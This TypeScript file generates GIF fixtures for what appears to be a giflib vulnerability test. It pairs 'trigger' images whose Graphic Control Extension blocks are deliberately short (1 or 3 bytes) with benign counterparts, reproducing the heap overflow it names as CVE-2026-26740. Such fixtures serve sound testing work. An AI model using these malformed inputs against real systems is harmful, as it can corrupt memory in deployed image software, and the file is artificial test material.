/**
 * Emits every GIF the two giflib bundles use, byte for byte the same each time. All of them are ours:
 * the format is CompuServe's GIF89a (1990), written here from its block grammar.
 *
 * What matters is one block. A Graphic Control Extension (GIF89a §23) says how long a frame is shown
 * and must carry exactly 4 bytes. A decoder that keeps the block as it came keeps 1, 2 or 3 bytes if
 * the file says so; an encoder that later writes 4 bytes back into it writes past the allocation
 * (CVE-2026-26740).
 */

/** Two colours, black and white: the smallest table the format allows. */
const colourTable = [0x00, 0x00, 0x00, 0xff, 0xff, 0xff];
const blackAndWhiteTable = 0x80;
const loopForever = [0x21, 0xff, 11, ...ascii('NETSCAPE2.0'), 3, 1, 0, 0, 0];
const trailer = 0x3b;

function ascii(text: string): number[] {
  return [...Buffer.from(text, 'latin1')];
}

function header(width: number, height: number): number[] {
  return [...ascii('GIF89a'), width, 0, height, 0, blackAndWhiteTable, 0, 0, ...colourTable];
}

/** `bytes` is the block's content; the format wants 4 of them and nothing in the file enforces it. */
function graphicControl(bytes: number[]): number[] {
  return [0x21, 0xf9, bytes.length, ...bytes, 0];
}

function comment(text: string): number[] {
  return [0x21, 0xfe, text.length, ...ascii(text), 0];
}

/** One white pixel: LZW with 3-bit codes: clear (4), colour 1, end (5), packed low bit first. */
function onePixel(): number[] {
  const packed = 4 | (1 << 3) | (5 << 6);
  return [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, packed & 0xff, packed >> 8, 0];
}

export const gifs: Record<string, Uint8Array> = {
  'giflib-tool/trigger.gif': Uint8Array.from([
    ...header(1, 1),
    ...graphicControl([0x00]),
    ...onePixel(),
    trailer,
  ]),
  'giflib-tool/benign.gif': Uint8Array.from([
    ...header(1, 1),
    ...graphicControl([0x00, 0x05, 0x00, 0x00]),
    ...onePixel(),
    trailer,
  ]),
  'giflib-tool/benign-no-control.gif': Uint8Array.from([...header(1, 1), ...onePixel(), trailer]),
  'giflib-disposal/trigger.gif': Uint8Array.from([
    ...header(1, 1),
    ...loopForever,
    ...graphicControl([0x04, 0x0a, 0x00, 0x00]),
    ...onePixel(),
    ...comment('second frame'),
    ...graphicControl([0x04, 0x0a, 0x00]),
    ...onePixel(),
    trailer,
  ]),
  'giflib-disposal/benign.gif': Uint8Array.from([
    ...header(1, 1),
    ...loopForever,
    ...graphicControl([0x04, 0x0a, 0x00, 0x00]),
    ...onePixel(),
    ...comment('second frame'),
    ...graphicControl([0x04, 0x14, 0x00, 0x00]),
    ...onePixel(),
    trailer,
  ]),
};
